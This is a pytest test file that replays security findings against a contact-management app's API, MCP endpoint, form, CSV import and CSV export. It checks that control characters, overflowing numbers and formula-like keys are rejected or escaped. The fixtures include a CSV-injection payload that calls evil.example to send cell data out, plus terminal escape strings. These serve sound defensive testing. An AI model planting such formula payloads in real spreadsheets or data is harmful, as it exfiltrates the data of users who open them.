"""Findings 13.2, 13.3 and 13.8 replayed as an attacker would, at every entry point (JSON API
single and bulk, MCP, the contact form, CSV import) and on both backends: control characters,
formula-looking custom-field keys and non-finite numbers are refused with a clear error and
write nothing; a formula-looking key already stored is escaped in the export's header row."""
import csv
import io
import json
import re

import pytest
from sqlalchemy import func, select

from sureapp import jobs
from sureapp.extensions import db
from sureapp.models import Contact, Role
from sureapp.validation import CONTROL_CHARACTERS, NON_FINITE_NUMBER

from .conftest import key_headers

FORMULA_KEY = '=WEBSERVICE("https://evil.example/?"&A2)'
# Raw JSON: 1e400 and -1e400 overflow a float (json.loads reads them as ±infinity); NaN and
# Infinity are not JSON at all, but Python's parser (and many clients) produce them.
NON_FINITE_LITERALS = ["1e400", "-1e400", "NaN", "Infinity", "-Infinity"]
HOSTILE_CUSTOM_FIELDS = [
    ({"note": "nul\x00byte"}, "custom_fields.note", CONTROL_CHARACTERS),
    ({"note": "bell\x07and\x1b[31mred"}, "custom_fields.note", CONTROL_CHARACTERS),
    ({"k\x00ey": "v"}, "custom_fields.k\x00ey.[key]", CONTROL_CHARACTERS),
    ({"line\nbreak": "v"}, "custom_fields.line\nbreak.[key]", CONTROL_CHARACTERS),
    ({FORMULA_KEY: "v"}, f"custom_fields.{FORMULA_KEY}.[key]", "formula"),
    ({"+cmd": "v"}, "custom_fields.+cmd.[key]", "formula"),
    ({"-2+3": "v"}, "custom_fields.-2+3.[key]", "formula"),
    ({"@SUM(A1)": "v"}, "custom_fields.@SUM(A1).[key]", "formula"),
    ({"n": 2**53}, "custom_fields.n", "send it as a string"),
]


@pytest.fixture
def app_config(tmp_path):
    return {"CONTACT_IMPORT_DIR": str(tmp_path / "imports"), "API_RATE_LIMIT": "100000 per minute"}


def contact_count() -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(Contact))


def post_raw(client, path, key, raw: str, method="POST", **headers):
    return client.open(path, method=method, data=raw, content_type="application/json",
                       headers={**key_headers(key), **headers})


# ---- JSON API -------------------------------------------------------------------------------

@pytest.mark.parametrize("literal", NON_FINITE_LITERALS)
def test_api_refuses_non_finite_numbers_with_422_naming_the_field(client, api_keys, literal):
    raw = '{"email": "n@example.com", "custom_fields": {"n": %s}}' % literal
    response = post_raw(client, "/api/v1/contacts", api_keys["all"], raw)
    assert response.status_code == 422, response.get_data(as_text=True)
    assert response.get_json()["errors"] == {"custom_fields.n": [NON_FINITE_NUMBER]}
    assert contact_count() == 0


def test_api_refuses_non_finite_numbers_in_patch_put_and_bulk(client, api_keys):
    key = api_keys["all"]
    created = client.post("/api/v1/contacts", json={"email": "a@example.com"},
                          headers=key_headers(key)).get_json()
    path = f"/api/v1/contacts/{created['id']}"
    for method in ("PATCH", "PUT"):
        raw = '{"email": "a@example.com", "custom_fields": {"n": 1e400}}'
        assert post_raw(client, path, key, raw, method=method).status_code == 422
    raw = '{"contacts": [{"email": "b@example.com"}, {"email": "c@example.com", "custom_fields": {"n": -1e400}}]}'
    response = post_raw(client, "/api/v1/contacts/bulk", key, raw)
    assert response.status_code == 422
    assert response.get_json()["errors"] == {"contacts.1.custom_fields.n": [NON_FINITE_NUMBER]}
    stored = client.get(path, headers=key_headers(key)).get_json()
    assert stored["custom_fields"] == {} and contact_count() == 1


def test_api_refuses_non_finite_numbers_in_any_json_field(client, api_keys):
    raw = '{"name": "Flow", "trigger": "contact_created", "steps": [{"wait_hours": 1e400}]}'
    response = post_raw(client, "/api/v1/automations", api_keys["all"], raw)
    assert response.status_code == 422
    assert response.get_json()["errors"] == {"steps.0.wait_hours": [NON_FINITE_NUMBER]}


@pytest.mark.parametrize("fields,where,message", HOSTILE_CUSTOM_FIELDS)
def test_api_refuses_hostile_custom_fields(client, api_keys, fields, where, message):
    response = client.post("/api/v1/contacts", json={"email": "h@example.com", "custom_fields": fields},
                           headers=key_headers(api_keys["all"]))
    assert response.status_code == 422
    errors = response.get_json()["errors"]
    # The JSON tree check names a control character's place (`custom_fields.note` /
    # `custom_fields.k\x00ey`); the schema names the key itself (`….[key]`).
    assert any(message in m for field, msgs in errors.items() for m in msgs
               if where.startswith(field)), errors
    assert contact_count() == 0


def test_bulk_rows_with_formula_keys_fail_alone(client, api_keys):
    response = client.post("/api/v1/contacts/bulk", headers=key_headers(api_keys["all"]), json={
        "contacts": [{"email": "ok@example.com", "custom_fields": {"plan": "pro"}},
                     {"email": "bad@example.com", "custom_fields": {FORMULA_KEY: "x"}}]})
    assert response.status_code == 200
    results = response.get_json()["results"]
    assert [r["status"] for r in results] == ["created", "failed"]
    assert "formula" in " ".join(results[1]["errors"][f"custom_fields.{FORMULA_KEY}.[key]"])
    assert contact_count() == 1


# ---- MCP ------------------------------------------------------------------------------------

def call_create_contact(client, key, arguments_json: str):
    body = ('{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": '
            '{"name": "create_contact", "arguments": %s}}' % arguments_json)
    return client.post("/mcp", data=body, headers={
        **key_headers(key), "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream", "MCP-Protocol-Version": "2025-06-18"})


@pytest.mark.parametrize("fields,where,message", HOSTILE_CUSTOM_FIELDS)
def test_mcp_refuses_hostile_custom_fields(client, api_keys, fields, where, message):
    arguments = json.dumps({"email": "m@example.com", "custom_fields": fields})
    error = call_create_contact(client, api_keys["all"], arguments).get_json()["error"]
    assert error["code"] == -32602 and message in error["message"], error
    assert contact_count() == 0


def test_mcp_refuses_overflowing_numbers(client, api_keys):
    arguments = '{"email": "m@example.com", "custom_fields": {"n": 1e400}}'
    error = call_create_contact(client, api_keys["all"], arguments).get_json()["error"]
    assert error["code"] == -32602 and NON_FINITE_NUMBER in error["message"]
    assert contact_count() == 0


# ---- the contact form -----------------------------------------------------------------------

@pytest.fixture
def member_client(owner_workspace, make_user, add_member, login):
    _, _, workspace = owner_workspace
    member = add_member(workspace, make_user(email="member@example.com"), Role.MEMBER)
    return workspace, login(member)


@pytest.mark.parametrize("key,value,field,message", [
    (FORMULA_KEY, "x", "custom_fields-0-key", "formula"),
    ("@cmd", "x", "custom_fields-0-key", "formula"),
    ("plan", "nul\x00byte", "custom_fields-0-value", CONTROL_CHARACTERS),
    ("plan", "esc\x1b[2J", "custom_fields-0-value", CONTROL_CHARACTERS),
    ("k\x07", "x", "custom_fields-0-key", CONTROL_CHARACTERS),
])
def test_contact_form_shows_the_problem_next_to_the_row(member_client, key, value, field, message):
    workspace, client = member_client
    response = client.post(f"/w/{workspace.id}/contacts/new", data={
        "email": "f@example.com", "custom_fields-0-key": key, "custom_fields-0-value": value})
    assert response.status_code == 422
    body = response.get_data(as_text=True)
    # The row's own error paragraph (the template ties it to the input by id).
    error = re.search(r'class="field has-error">.*?<p class="field-error"[^>]*>([^<]*)</p>', body, re.S)
    assert error and message in error.group(1).replace("&#39;", "'"), body[:2000]
    assert f'name="{field}"' in body
    assert contact_count() == 0


# ---- CSV import -----------------------------------------------------------------------------

def test_csv_upload_with_a_nul_byte_is_refused_with_the_line(member_client):
    workspace, client = member_client
    content = b"email,note\nok@example.com,fine\nnul@example.com,a\x00b\n"
    response = client.post(f"/w/{workspace.id}/contacts/import",
                           data={"file": (io.BytesIO(content), "c.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert "NUL character on line 3" in response.get_data(as_text=True)
    assert contact_count() == 0


def test_csv_import_reports_control_characters_as_row_errors(member_client):
    workspace, client = member_client
    content = ("email,plan,note\n"
               "ok@example.com,pro,fine\n"
               "bell@example.com,pro,a\x07b\n"
               "esc@example.com,\x1b[31mred,x\n").encode()
    response = client.post(f"/w/{workspace.id}/contacts/import",
                           data={"file": (io.BytesIO(content), "c.csv")},
                           content_type="multipart/form-data")
    job = re.search(r"/import/([0-9a-f]{32})", response.headers["Location"]).group(1)
    base = f"/w/{workspace.id}/contacts/import/{job}"
    client.post(base, data={"col-0": "email", "col-1": "custom", "col-2": "custom"})
    review = client.get(f"{base}/review").get_data(as_text=True)
    assert re.findall(r'stat-value">([\d,]+)<', review)[:3] == ["1", "0", "2"]
    assert review.count("no control characters") == 2
    assert client.post(f"{base}/start").status_code == 303
    jobs.wait_for(job)
    db.session.expire_all()
    assert list(db.session.scalars(select(Contact.email))) == ["ok@example.com"]


# ---- CSV export -----------------------------------------------------------------------------

def test_export_escapes_a_stored_formula_key_in_the_header(member_client):
    """Keys stored before the input rule existed are still data: the header cell is escaped."""
    workspace, client = member_client
    db.session.add(Contact(workspace_id=workspace.id, email="old@example.com",
                           custom_fields={FORMULA_KEY: "x", "-2+3": "y"}))
    db.session.commit()
    response = client.get(f"/w/{workspace.id}/contacts/export.csv")
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert "'" + FORMULA_KEY in header and "'-2+3" in header
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)
